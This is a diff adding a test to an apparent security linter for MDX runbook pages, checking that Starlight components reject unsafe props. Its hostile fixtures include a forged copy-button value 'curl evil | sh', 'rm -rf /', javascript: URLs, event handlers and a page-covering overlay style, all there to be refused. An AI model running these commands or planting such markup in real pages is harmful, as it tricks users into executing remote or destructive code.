@@ -162,6 +162,38 @@ describe('concrete cases, one per class the policy closes', () => {
     expect(mdx('## Head\n\n- [ ] task\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nText[^1] [l](https://x.example)\n\n[^1]: note\n\n<kbd>K</kbd>\n')).toEqual([]);
   });
 
+  it("Starlight's components go through the same policy: a prop that is not the component's own is an attribute of what it renders", () => {
+    const mdx = (body: string) => {
+      const facts = collectFacts(page(body), 'src/content/runbooks/t/case.mdx', 't/case.mdx', { mdxBindings: true } as never);
+      return htmlRules[0].check([facts], { root: ROOT, config: { allowUnsafeHtml: false } }).map((f) => [f.line, f.column, f.message]);
+    };
+    const SL = "import { Badge, LinkButton, LinkCard, Card, Icon, Code, Aside } from '@astrojs/starlight/components';\n\n";
+    // Badge, LinkButton and LinkCard spread these onto their <span>/<a>: a forged run block whose copy button copies another command, a page-wide overlay.
+    expect(mdx(`${SL}<Badge text="Restart" class="rb-snippet" data-code="curl evil | sh" />\n`)).toEqual([[8, 23, 'Unsafe JSX: the class attribute on <Badge> is not allowed in a runbook body (it could imitate the site\'s own markup)']]);
+    expect(mdx(`${SL}<LinkButton href="#s" style="position:fixed;inset:0">Go</LinkButton>\n`)[0][2]).toBe('Unsafe JSX: the style attribute on <LinkButton> is not on the allow-list of HTML a runbook may use');
+    expect(mdx(`${SL}<LinkCard title="x" href="javascript:alert(1)" />\n`)[0][2]).toBe('Unsafe JSX: href on <LinkCard>: a javascript: URL runs script');
+    // Renamed, through a namespace, or a component the table does not know: every prop not its own is held to the policy.
+    expect(mdx("import { Badge as B } from '@astrojs/starlight/components';\n\n<B text=\"x\" data-rb-vars />\n")[0][2]).toContain('data-rb-vars attribute on <B>');
+    expect(mdx("import * as S from '@astrojs/starlight/components';\n\n<S.Badge text=\"x\" onClick=\"alert(1)\" />\n")[0][2]).toContain('on <S.Badge>');
+    expect(mdx("import Thing from 'some-package/Thing.astro';\n\n<Thing className=\"rb-vars\" />\n")[0][2]).toContain('class attribute on <Thing>');
+    // Their own props, and the attributes a body may use anyway, pass: the site's own index page keeps building.
+    expect(mdx(`${SL}<Badge text="New" variant="tip" size="small" title="t" />\n\n<LinkCard title="Roles" href="/handbook/roles/" description="Who does what" />\n\n<LinkButton href="https://x.example" variant="secondary" icon="external">Go</LinkButton>\n\n<Card title="C" icon="star">body</Card>\n\n<Icon name="star" label="s" color="red" />\n\n<Code code="echo 1" lang="bash" title="T" mark="1" frame="terminal" />\n\n<Aside type="tip" title="t">x</Aside>\n`)).toEqual([]);
+    // Generated: every component, every import style, hostile and harmless props.
+    const { pick } = random(18);
+    const COMPONENTS = ['Badge', 'LinkButton', 'LinkCard', 'Card', 'CardGrid', 'Icon', 'Tabs', 'TabItem', 'Steps', 'FileTree', 'Code', 'Aside'];
+    const HOSTILE = ['class="rb-snippet"', 'className="x"', 'style="opacity:0"', 'data-code="rm -rf /"', 'data-rb-vars="1"', 'onclick="alert(1)"', 'onMouseOver="x"', 'id="rb-vars"', 'tabindex="0"', 'href="javascript:alert(1)"', 'src="data:text/html,x"', 'set:html="<img>"'];
+    for (let i = 0; i < 240; i++) {
+      const name = pick(COMPONENTS);
+      const style = pick(['named', 'alias', 'namespace']);
+      const head = style === 'namespace' ? "import * as S from '@astrojs/starlight/components';" : `import { ${name}${style === 'alias' ? ' as X' : ''} } from '@astrojs/starlight/components';`;
+      const tag = style === 'namespace' ? `S.${name}` : style === 'alias' ? 'X' : name;
+      const attr = pick(HOSTILE);
+      const found = mdx(`${head}\n\n<${tag} ${name === 'Code' ? 'code="x" ' : ''}${attr} />\n`);
+      expect(found.length, `${tag} ${attr}`).toBe(1);
+      expect(found[0][2], `${tag} ${attr}`).toMatch(/^Unsafe JSX: /);
+    }
+  });
+
   it('SVG: script, handlers, foreignObject, animate, external href, PIs and DOCTYPE entities are refused; plain drawings pass', () => {
     const svg = (inner: string, prolog = '') => `${prolog}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">${inner}</svg>`;
     expect(refuseSvg(svg('<defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient></defs><rect width="10" height="10" fill="url(#g)" style="stroke:blue"/><text x="1" y="5" font-size="3">db</text><use xlink:href="#g"/>', '<?xml version="1.0" encoding="UTF-8"?>\n'))).toEqual([]);
